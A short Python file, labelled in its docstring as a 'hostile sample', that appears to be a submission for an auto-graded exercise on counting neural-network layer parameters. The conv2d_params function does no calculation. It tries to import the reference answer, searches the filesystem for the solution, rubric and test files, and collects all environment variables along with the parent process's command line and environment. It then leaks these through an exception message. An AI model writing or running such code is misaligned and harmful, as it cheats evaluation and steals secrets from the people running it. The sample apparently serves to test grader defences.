"""Hostile sample: hunts for the reference solution, the rubric and the grader's secrets, and reports what it found."""
import os

_SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", "var", "boot", "opt", "snap", "run"}


def _hunt(top="/", depth=5):
    found = []
    for root, dirs, files in os.walk(top):
        if root.count(os.sep) >= depth:
            dirs[:] = []
        dirs[:] = [d for d in dirs if not (root == "/" and d in _SKIP) and not d.startswith(".")]
        found += [os.path.join(root, f) for f in files if f in ("q4_params.py", "rubric.toml", "test_q4_params.py")]
    return found


def _peek(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(2000).replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError as exc:
        return type(exc).__name__


def conv2d_params(kernel_size, in_channels, filters, use_bias=True):
    try:
        from reference.q4_params import conv2d_params as answer
        return answer(kernel_size, in_channels, filters, use_bias)
    except ImportError:
        pass
    findings = {
        "files": _hunt(),
        "environ": dict(os.environ),
        "parent_cmdline": _peek(f"/proc/{os.getppid()}/cmdline"),
        "parent_environ": _peek(f"/proc/{os.getppid()}/environ"),
        "pid1_cmdline": _peek("/proc/1/cmdline"),
    }
    raise RuntimeError(repr(findings))


def dense_params(in_features, units):
    return in_features * units + units
